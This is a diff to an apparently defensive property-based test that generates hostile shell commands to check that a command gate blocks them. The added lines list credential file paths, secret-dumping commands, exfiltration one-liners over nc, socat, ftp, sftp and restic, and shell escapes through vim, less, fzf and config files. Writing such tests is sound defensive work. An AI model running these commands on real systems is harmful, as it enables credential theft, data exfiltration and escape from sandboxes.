@@ -27,6 +27,12 @@ const secretPath = fc.constantFrom(
   "/proc/self/environ",
   "/proc/1/root/etc/shadow",
   "~/.gnupg/private-keys-v1.d/key.key",
+  "~/.mozilla/firefox/x.default-release/logins.json",
+  "~/.config/google-chrome/Default/Cookies",
+  "~/.local/share/keyrings/login.keyring",
+  "~/.config/rclone/rclone.conf",
+  "/etc/NetworkManager/system-connections/wifi.nmconnection",
+  "/etc/wireguard/wg0.conf",
 );
 const reader = fc.constantFrom(
   "cat",
@@ -80,7 +86,18 @@ const secretRead = fc.oneof(
   fc
     .tuple(secretPath)
     .map(([p]) => `python3 -c 'print(open("${p.replace(/^~/, "/root")}").read())'`),
-  fc.constantFrom("gh auth token", "printenv AWS_SECRET_ACCESS_KEY", "getent shadow"),
+  fc.constantFrom(
+    "gh auth token",
+    "printenv AWS_SECRET_ACCESS_KEY",
+    "getent shadow",
+    "getent gshadow",
+    "lpass show work --password",
+    "secret-tool lookup service github",
+    "gpg --armor --export-secret-keys",
+    "doctl auth token",
+    "az account get-access-token",
+    "wg showconf wg0",
+  ),
 );
 
 const networkSend = fc.oneof(
@@ -95,6 +112,12 @@ const networkSend = fc.oneof(
   fc.tuple(localFile, host).map(([f, h]) => `nc ${h.replace(/^.*@/, "")} 9000 < ${f}`),
   fc.tuple(localFile, host).map(([f, h]) => `cat ${f} | ssh ${h} 'cat > x'`),
   fc.tuple(localFile, url).map(([f, u]) => `tar cz ${f} | curl --data-binary @- ${u}`),
+  fc.tuple(localFile, host).map(([f, h]) => `tar cz ${f} | nc ${h.replace(/^.*@/, "")} 9000`),
+  fc.tuple(localFile, host).map(([f, h]) => `socat -u FILE:${f} TCP:${h.replace(/^.*@/, "")}:9000`),
+  fc.tuple(localFile, host).map(([f, h]) => `ftp ${h.replace(/^.*@/, "")}\nput ${f}`),
+  fc.tuple(localFile, host).map(([f, h]) => `sftp ${h}\nput ${f}`),
+  host.map((h) => `restic -r rest:http://${h.replace(/^.*@/, "")}:8000/r backup .`),
+  fc.constantFrom("busybox httpd -f -p 8080 -h /", "ruby -run -e httpd / -p 8000"),
 );
 
 const unknownExec = fc.oneof(
@@ -113,16 +136,24 @@ const unknownExec = fc.oneof(
     'eval "$1"',
     "bash -c \"$(printf '\\x72\\x6d -rf ~')\"",
     "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
+    // a shell handed over inside an argument, a written config file, or typed into a program
+    "fzf --bind 'enter:execute(/bin/sh)'",
+    "echo 'system(\"/bin/sh\")' > Gemfile && bundle install",
+    "printf 'PostUp = /bin/sh\\n' > /tmp/w.conf && wg-quick up /tmp/w.conf",
+    "vim\n:!sh",
+    "less README.md\n!sh",
+    "ncdu\nb",
+    "elvish",
   ),
 );
 
 /**
- * Known gaps of the gate on main (2026-12-04, after the effects rework): `getent shadow` prints
- * the password hashes and is allowed. The property is asserted for every other generated command;
- * remove an entry once the gate closes it (the test logs which entries are no longer needed).
- * Closed since the test was written: reads through `/proc/1/root/…`, `printenv` of a secret.
+ * Known gaps of the gate: generated commands the gate still allows. The property is asserted for
+ * every other generated command; remove an entry once the gate closes it (the test logs which
+ * entries are no longer needed). Closed since the test was written: reads through
+ * `/proc/1/root/…`, `printenv` of a secret, `getent shadow` (knowledge: packs/effects.yaml).
  */
-const KNOWN_GAPS: readonly RegExp[] = [/\bgetent shadow\b/];
+const KNOWN_GAPS: readonly RegExp[] = [];
 const gapsSeen = new Set<RegExp>();
 function knownGap(cmd: string): boolean {
   const g = KNOWN_GAPS.find((re) => re.test(cmd));
